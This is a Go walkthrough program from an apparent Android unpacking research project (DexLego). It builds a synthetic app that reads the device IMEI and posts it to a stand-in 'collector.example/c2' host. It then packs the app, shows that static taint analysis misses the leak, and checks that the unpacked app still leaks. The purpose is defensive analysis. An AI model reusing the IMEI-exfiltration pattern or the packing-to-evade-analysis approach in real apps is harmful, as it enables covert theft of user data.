@@ -1,0 +1,118 @@
+// Packed application walkthrough: pack a leaking app with each of the five
+// packers, show that static analysis of the packed APK is blind, compare
+// the DexHunter dump baseline against DexLego, and verify that the
+// revealed application still runs with identical behavior.
+package main
+
+import (
+	"fmt"
+	"log"
+
+	root "dexlego"
+	"dexlego/internal/apk"
+	"dexlego/internal/art"
+	"dexlego/internal/dex"
+	"dexlego/internal/dexgen"
+	"dexlego/internal/packer"
+	"dexlego/internal/taint"
+	"dexlego/internal/unpacker"
+)
+
+func main() {
+	if err := run(); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func buildVictim() (*apk.APK, error) {
+	p := dexgen.New()
+	cls := p.Class("Lvictim/Main;", "Landroid/app/Activity;")
+	cls.Ctor("Landroid/app/Activity;", nil)
+	cls.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
+		a.GetIMEI(0, 1)
+		a.ConstString(2, "https://collector.example/c2")
+		a.InvokeStatic("Landroid/net/http/HttpClient;", "post",
+			"(Ljava/lang/String;Ljava/lang/String;)V", 2, 0)
+		a.ReturnVoid()
+	})
+	return p.BuildAPK("com.victim", "1.0", "Lvictim/Main;")
+}
+
+func analyze(files []*dex.File) (bool, error) {
+	res, err := taint.Analyze(files, taint.HornDroid())
+	if err != nil {
+		return false, err
+	}
+	return res.Leaky(), nil
+}
+
+func run() error {
+	orig, err := buildVictim()
+	if err != nil {
+		return err
+	}
+	fmt.Printf("%-8s | %-14s | %-14s | %-14s | %s\n",
+		"packer", "packed static", "DexHunter dump", "DexLego reveal", "revealed runs")
+	for _, pk := range packer.All() {
+		packed, err := pk.Pack(orig)
+		if err != nil {
+			return err
+		}
+
+		// Static analysis of the packed APK sees only the shell.
+		packedData, err := packed.Dex()
+		if err != nil {
+			return err
+		}
+		packedDex, err := dex.Read(packedData)
+		if err != nil {
+			return err
+		}
+		packedLeak, err := analyze([]*dex.File{packedDex})
+		if err != nil {
+			return err
+		}
+
+		// DexHunter-style dump of the loaded DEX files.
+		dumped, err := unpacker.DexHunter().Unpack(packed, pk.InstallNatives, nil)
+		if err != nil {
+			return err
+		}
+		dumpLeak, err := analyze(dumped)
+		if err != nil {
+			return err
+		}
+
+		// DexLego reveal.
+		res, err := root.Reveal(packed, root.Options{InstallNatives: pk.InstallNatives})
+		if err != nil {
+			return err
+		}
+		revealLeak, err := analyze([]*dex.File{res.RevealedDex})
+		if err != nil {
+			return err
+		}
+
+		// Re-run the revealed APK and check the leak still happens.
+		rt := art.NewRuntime(art.DefaultPhone())
+		pk.InstallNatives(rt)
+		if err := rt.LoadAPK(res.Revealed); err != nil {
+			return err
+		}
+		if _, err := rt.LaunchActivity(); err != nil {
+			return err
+		}
+		behaves := false
+		for _, ev := range rt.Sinks() {
+			if ev.Leaky() {
+				behaves = true
+			}
+		}
+		fmt.Printf("%-8s | leak=%-9v | leak=%-9v | leak=%-9v | %v\n",
+			pk.Name(), packedLeak, dumpLeak, revealLeak, behaves)
+	}
+	for name, reason := range packer.UnavailableServices() {
+		fmt.Printf("%-8s | %s\n", name, reason)
+	}
+	return nil
+}
